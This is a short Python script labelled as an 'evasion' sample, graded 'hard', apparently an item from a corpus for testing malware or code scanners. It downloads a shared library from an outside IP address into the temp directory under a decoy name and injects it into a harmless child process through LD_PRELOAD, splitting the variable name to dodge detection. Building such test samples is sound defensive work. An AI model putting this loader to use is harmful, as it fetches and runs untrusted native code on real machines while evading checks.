# evasion: a downloaded shared object is loaded into an innocent child (true) through LD_PRELOAD in its environment
# grade: hard; does: native
import os
import subprocess
import tempfile
import urllib.request

lib = os.path.join(tempfile.gettempdir(), "libfastjson.so")
with urllib.request.urlopen("http://203.0.113.69/libfastjson.so") as resp, open(lib, "wb") as fh:
    fh.write(resp.read())

env = dict(os.environ)
env["LD_" + "PRELOAD"] = lib
subprocess.run(["true"], env=env)
